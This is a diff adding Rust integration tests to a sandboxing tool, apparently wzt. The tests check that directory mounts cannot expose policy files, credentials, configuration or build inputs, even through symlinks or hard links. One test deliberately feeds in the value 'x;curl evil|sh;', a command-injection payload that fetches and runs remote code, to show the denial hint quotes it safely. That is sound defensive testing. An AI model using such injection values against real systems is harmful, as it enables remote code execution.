@@ -120,7 +120,7 @@ fn wzt_dev_gives_no_actor_its_own_project() {
     assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
     assert!(
         stderr_of(&out).contains(
-            "it would give the actor the project (its sources and wzt.toml, which the next build runs and signs with)"
+            "it would give the actor a build input of the project (wzt.toml, Cargo.toml, Cargo.lock, build.rs, src/, .cargo/ or .wzt/)"
         ),
         "{}",
         stderr_of(&out)
@@ -234,4 +234,156 @@ fn an_ipv6_destination_is_reached_by_its_scope_and_allow_host_takes_a_scheme() {
         err.contains("'ftp://x' is not a host pattern (the scheme must be http or https, not ftp)"),
         "{err}"
     );
+}
+
+#[test]
+fn a_protected_file_reached_through_a_link_or_another_name_is_still_protected() {
+    let env = setup();
+    let actor = common::sign_fixture(&env, "fs-actor", P2, "http,fs", "fs_s.wasm", &[]);
+    std::fs::create_dir_all(env.path("data")).unwrap();
+    std::fs::create_dir_all(env.path("real")).unwrap();
+    env.write("real/policy.toml", b"allow_unsigned = false\n");
+    // The policy named through a link inside the directory: the actor could repoint it.
+    std::os::unix::fs::symlink(env.path("real/policy.toml"), env.path("data/policy.toml")).unwrap();
+    let (code, _, err) = request(
+        &env,
+        &actor,
+        "GET /",
+        &["--policy", "data/policy.toml", "--dir", "data::/data"],
+    );
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains("--dir data: it would give the actor the policy file ("),
+        "{err}"
+    );
+    // A trace file under a linked directory inside it.
+    std::os::unix::fs::symlink(env.path("real"), env.path("data/lnk")).unwrap();
+    let (code, _, err) = request(
+        &env,
+        &actor,
+        "GET /",
+        &["--trace-file", "data/lnk/t.jsonl", "--dir", "data::/data"],
+    );
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains("it would give the actor the trace file"),
+        "{err}"
+    );
+    // A second name of the policy could be anywhere, in the directory too: refused.
+    std::fs::remove_file(env.path("data/policy.toml")).unwrap();
+    std::fs::remove_file(env.path("data/lnk")).unwrap();
+    std::fs::hard_link(env.path("real/policy.toml"), env.path("data/hard.toml")).unwrap();
+    let (code, _, err) = request(
+        &env,
+        &actor,
+        "GET /",
+        &["--policy", "real/policy.toml", "--dir", "data::/data"],
+    );
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains("the policy file (real/policy.toml) has other hard links"),
+        "{err}"
+    );
+    // wzt's configuration directory, where a default policy file would be read from, also
+    // while there is none; the lattice's credentials.
+    let config = env.root.path().join("config");
+    std::fs::create_dir_all(&config).unwrap();
+    let (code, _, err) = request(
+        &env,
+        &actor,
+        "GET /",
+        &["--dir", &format!("{}::/data", config.display())],
+    );
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains("it would give the actor wzt's configuration directory"),
+        "{err}"
+    );
+    std::fs::create_dir_all(env.path("secrets")).unwrap();
+    env.write("secrets/user.creds", b"not read before the check");
+    let (code, _, err) = request(
+        &env,
+        &actor,
+        "GET /",
+        &[
+            "--lattice",
+            "nats://127.0.0.1:1",
+            "--nats-creds",
+            "secrets/user.creds",
+            "--dir",
+            "secrets::/data",
+        ],
+    );
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains("it would give the actor the --nats-creds file"),
+        "{err}"
+    );
+}
+
+#[test]
+fn wzt_run_of_a_project_keeps_its_build_inputs_and_gives_a_data_directory() {
+    let env = setup();
+    let signed = common::sign_fixture(&env, "fs-actor", P2, "http,fs", "fs_s.wasm", &[]);
+    std::fs::create_dir_all(env.path("proj/src")).unwrap();
+    std::fs::create_dir_all(env.path("proj/data")).unwrap();
+    std::fs::write(
+        env.path("proj/wzt.toml"),
+        "[actor]\nname = \"fs\"\ncaps = [\"http\", \"fs\"]\n[build]\ncommand = \"true\"\nartifact = \"fs.wasm\"\n",
+    )
+    .unwrap();
+    std::fs::copy(env.path(&signed), env.path("proj/fs_s.wasm")).unwrap();
+    let run = |dir: &str| {
+        env.wzt()
+            .current_dir(env.path("proj"))
+            .args(["run", "--request", "GET /", "--dir", dir])
+            .output()
+            .unwrap()
+    };
+    let out = run("src::/data");
+    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
+    assert!(
+        stderr_of(&out).contains(
+            "--dir src: it would give the actor a build input of the project (wzt.toml, Cargo.toml, Cargo.lock, build.rs, src/, .cargo/ or .wzt/)"
+        ),
+        "{}",
+        stderr_of(&out)
+    );
+    // The project itself holds wzt.toml (and its key-value store).
+    let out = run(".::/data");
+    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
+    assert!(
+        stderr_of(&out).contains("--dir .: it would give the actor "),
+        "{}",
+        stderr_of(&out)
+    );
+    let out = run("data::/data");
+    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
+}
+
+#[test]
+fn a_denial_hint_is_one_shell_word() {
+    let env = setup();
+    let actor = common::sign_fixture(
+        &env,
+        "kv-actor",
+        P2,
+        "http,kv,log",
+        "kv_s.wasm",
+        &["--scope", "kv.bucket=app"],
+    );
+    // The bucket comes from the request: `x;curl evil|sh;`.
+    let (code, _, err) = request(
+        &env,
+        &actor,
+        "/incr?key=k&bucket=x%3Bcurl%20evil%7Csh%3B",
+        &["--mock-caps"],
+    );
+    assert_eq!(code, 1, "{err}");
+    assert!(
+        err.contains("grant it with --scope 'kv.bucket=x;curl evil|sh;'")
+            || err.contains("no scope can name it"),
+        "{err}"
+    );
+    assert!(!err.contains("--scope kv.bucket=x;"), "{err}");
 }
